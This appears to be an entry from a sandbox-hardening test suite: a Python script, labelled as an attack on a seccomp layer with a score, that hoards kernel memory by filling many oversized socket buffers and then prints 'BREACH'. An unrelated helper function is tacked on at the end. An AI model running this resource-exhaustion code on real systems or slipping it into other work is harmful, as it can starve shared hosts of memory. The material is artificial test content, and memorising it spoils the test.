# attack: keep kernel memory in socket buffers made as large as they go
# layer: seccomp
# outcome: ok
# score: 2
import os
import socket

hoard, kept = [], 0
try:
    while True:
        pair = socket.socketpair()
        hoard.append(pair)
        pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        pair[0].setblocking(False)
        try:
            while True:
                kept += pair[0].send(b"s" * 65536)
        except BlockingIOError:
            pass
except OSError:
    pass
if hoard:
    os.write(1, b"BREACH %d bytes in %d sockets" % (kept, len(hoard)))


def double(x):
    return x * 2
